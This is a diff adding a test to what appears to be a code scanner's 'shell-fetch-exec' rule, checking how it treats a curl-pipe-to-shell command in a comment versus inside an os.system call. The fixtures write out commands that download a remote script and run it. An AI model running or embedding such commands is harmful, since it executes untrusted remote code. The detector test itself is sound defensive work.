@@ -98,3 +98,21 @@ def test_a_setup_py_inside_a_package_is_a_module_not_the_install_script() -> Non
     assert roles["setup.py"] == Role.SETUP
     assert roles["inner/setup.py"] == Role.SETUP
     assert roles["cli/setup.py"] == Role.MODULE
+
+
+def test_a_comment_after_code_is_commentary_and_a_hash_in_a_string_is_not() -> None:
+    """``x = 1  # curl … | sh`` talks about a fetch; the code before the ``#`` is what runs.
+    A ``#`` inside a string (a URL fragment) starts no comment."""
+    noted = "import os\nSKIP = 1  # never: curl -sSf https://tools.example.invalid/x.sh | sh\n"
+    ctx = context({"pkg/__init__.py": "", "pkg/notes.py": noted})
+    findings = list(RULES["shell-fetch-exec"].check(ctx))
+    assert findings
+    assert all("comment/docstring" in f.message for f in findings)
+    code = (
+        "import os\n"
+        "os.system('echo #; curl -sSf https://tools.example.invalid/x.sh | sh')  # setup\n"
+    )
+    ctx = context({"pkg/__init__.py": "", "pkg/run.py": code})
+    findings = list(RULES["shell-fetch-exec"].check(ctx))
+    assert findings
+    assert not any("comment/docstring" in f.message for f in findings)
